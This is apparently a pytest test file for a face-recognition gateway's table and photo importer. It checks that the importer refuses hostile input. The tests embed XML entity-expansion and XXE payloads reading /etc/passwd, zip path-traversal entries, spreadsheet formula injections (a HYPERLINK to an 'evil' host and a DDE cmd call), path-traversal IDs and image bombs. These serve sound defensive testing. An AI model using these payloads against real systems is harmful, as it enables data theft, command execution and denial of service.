"""What somebody may put into an office's table or its folder of pictures: refused, quickly, and nobody half written."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from support.bombs import bomb_png
from support.people import JPEG, FolderEnroller
from zhian_gateway.errors import BadInput
from zhian_gateway.people.importing import Importer
from zhian_gateway.people.table_importing import RowReport, TableImporter
from zhian_gateway.people.table_rows import Rules
from zhian_gateway.people.tables import MOST_ROWS, read_table
from zhian_gateway.services import Services
from zhian_gateway.store.tables import people
from zhian_models.face.enrol import read_picture

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]><worksheet>&l9;</worksheet>'
FILE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet>&f;</worksheet>'


def workbook(sheet: bytes, *more: tuple[str, bytes]) -> bytes:
    """A workbook whose only sheet is this XML."""
    from openpyxl import Workbook  # noqa: PLC0415 - half a second to load

    kept, made = io.BytesIO(), io.BytesIO()
    Workbook().save(kept)
    with zipfile.ZipFile(kept) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, sheet if name == "xl/worksheets/sheet1.xml" else old.read(name))
        for name, data in more:
            new.writestr(name, data)
    return made.getvalue()


def enrolled(parts: Services) -> list[str]:
    with parts.store.read() as link:
        return sorted(link.execute(select(people.c.id)).scalars())


def take(parts: Services, table: Path, photos: Path | None = None) -> list[RowReport]:
    rules: Any = {"ground": "act", "until": "2026-12-31", "who": "t", "now": parts.clock(), "zone": parts.zone}
    importer = Importer(parts.store, parts.registry, parts.pictures, FolderEnroller(), parts.clock)
    return list(TableImporter(parts, importer, Rules(**rules), photos).run(table))


@pytest.mark.parametrize(
    "xml",
    [
        BOMB.encode(),
        FILE.encode(),
        BOMB.replace("<!DOCTYPE", f"<!--{'x' * 100_000}--><!DOCTYPE").encode(),
        BOMB.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16"),
    ],
)
def test_entities_of_a_workbook_are_never_unfolded(tmp_path: Path, xml: bytes) -> None:
    table = tmp_path / "t.xlsx"
    table.write_bytes(workbook(xml))
    with pytest.raises(BadInput, match="declares a document type"):
        read_table(table)


def test_a_workbook_with_paths_that_lead_out_writes_nothing(tmp_path: Path) -> None:
    rows = b'<sheetData><row r="1"><c t="inlineStr"><is><t>id</t></is></c></row></sheetData>'
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + rows + b"</worksheet>"
    table = tmp_path / "in" / "t.xlsx"
    table.parent.mkdir()
    table.write_bytes(workbook(sheet, ("../../out.txt", b"x"), ("/tmp/zhian-out.txt", b"x")))
    with pytest.raises(BadInput, match="no line below"):
        read_table(table)
    assert [path.name for path in tmp_path.rglob("*") if path.is_file()] == ["t.xlsx"]
    assert not Path("/tmp/zhian-out.txt").exists()


@pytest.mark.parametrize("suffix", [".csv", pytest.param(".xlsx", marks=pytest.mark.slow)])
def test_a_million_rows_are_refused_whole(parts: Services, tmp_path: Path, suffix: str) -> None:
    table = tmp_path / f"t{suffix}"
    if suffix == ".csv":
        table.write_bytes(b"id\n" + b"".join(b"s%d\n" % n for n in range(1_000_000)))
    else:
        row = b'<row><c t="inlineStr"><is><t>%d</t></is></c></row>'
        rows = b"".join([row.replace(b"%d", b"id"), *(row % n for n in range(1_000_000))])
        space = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        table.write_bytes(workbook(b"<worksheet %s><sheetData>%s</sheetData></worksheet>" % (space, rows)))
    with pytest.raises(BadInput, match=f"more than {MOST_ROWS} lines"):
        take(parts, table)
    assert enrolled(parts) == []


@pytest.mark.parametrize(
    ("data", "said"),
    [
        ("id,name\ns1,小明\n".encode("utf-16"), "neither UTF-8 nor GB18030"),
        (b"id,name\ns1,\xff\xff\xff\n", "neither UTF-8 nor GB18030"),
        (JPEG, "neither UTF-8 nor GB18030|no such column|no table"),
        (b"id,name\n" + b"x" * 200_000 + b",y\n", "no table"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "neither UTF-8 nor GB18030"),
    ],
)
def test_what_is_no_table_is_refused_whole(parts: Services, tmp_path: Path, data: bytes, said: str) -> None:
    table = tmp_path / "t.csv"
    table.write_bytes(data)
    with pytest.raises(BadInput, match=said):
        take(parts, table)
    assert enrolled(parts) == []


def test_a_pipe_or_a_folder_is_no_table(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.csv")
    for path in (tmp_path / "pipe.csv", tmp_path, tmp_path / "nothing.csv"):
        with pytest.raises(BadInput, match="no such file"):
            read_table(path)


@pytest.mark.parametrize("cell", ["=1+1", '=HYPERLINK("http://evil/?"&A1)', " =cmd|'/c calc'!A1"])
def test_a_formula_is_refused_with_its_row_and_never_computed(parts: Services, tmp_path: Path, cell: str) -> None:
    from openpyxl import Workbook  # noqa: PLC0415 - half a second to load

    book = Workbook()
    for row in (("id", "name", "cards"), ("s1", cell, "04A1"), ("s2", "小红", "04A2")):
        book.active.append(row)
    book.save(tmp_path / "t.xlsx")
    quoted = cell.replace('"', '""')
    (tmp_path / "t.csv").write_text(f'id,name,cards\ns1,"{quoted}",04A1\ns2,小红,04A2\n', encoding="utf-8")
    for name in ("t.xlsx", "t.csv"):
        first, second = take(parts, tmp_path / name)
        assert (first.outcome, first.errors[0].column, second.outcome) == ("refused", "name", "enrolled")
        assert "formula" in first.errors[0].reason
    assert enrolled(parts) == ["s2"]


@pytest.mark.parametrize("name", ["../secret", "/etc", "a/../../secret", "..", ".", "a\\b"])
def test_an_id_that_is_a_path_reaches_no_folder(parts: Services, tmp_path: Path, name: str) -> None:
    photos = tmp_path / "photos"
    photos.mkdir()
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "1.jpg").write_bytes(JPEG)
    table = tmp_path / "t.csv"
    head = "id,name,cards,recognition,consent_by,consent_on\n"
    table.write_text(f"{head}{name},x,04A1,yes,mother,2026-02-01\n", encoding="utf-8")
    (report,) = take(parts, table, photos)
    assert (report.outcome, report.templates) == ("refused", 0)
    assert enrolled(parts) == []


def test_pictures_that_are_none_bombs_or_never_end_leave_the_person_without_a_face(
    parts: Services, tmp_path: Path
) -> None:
    photos = tmp_path / "photos"
    photos.mkdir()
    (photos / "s1.png").write_bytes(bomb_png(9000))
    (photos / "s2.jpg").write_bytes(b"MZ not a picture")
    os.mkfifo(photos / "s3.jpg")
    (photos / "s4.jpg").symlink_to("/dev/zero")
    with (photos / "s5.jpg").open("wb") as file:
        file.truncate(64 << 20)
    pgm = photos / "s6.jpg"
    pgm.write_bytes(b"P5 30000 30000 255\n")
    (photos / "s7.jpg").write_bytes(JPEG)
    for name in ("s1.png", "s2.jpg", "s6.jpg"):
        assert read_picture(photos / name) is None
    table = tmp_path / "t.csv"
    rows = "".join(f"s{n},x,04A{n},yes,mother,2026-02-01\n" for n in range(1, 8))
    table.write_text(f"id,name,cards,recognition,consent_by,consent_on\n{rows}", encoding="utf-8")
    reports = {report.id: report for report in take(parts, table, photos)}
    assert {report.outcome for report in reports.values()} == {"enrolled"}
    for name in ("s3", "s4", "s5"):
        assert [one.code for one in reports[name].warnings] == ["no_picture"]
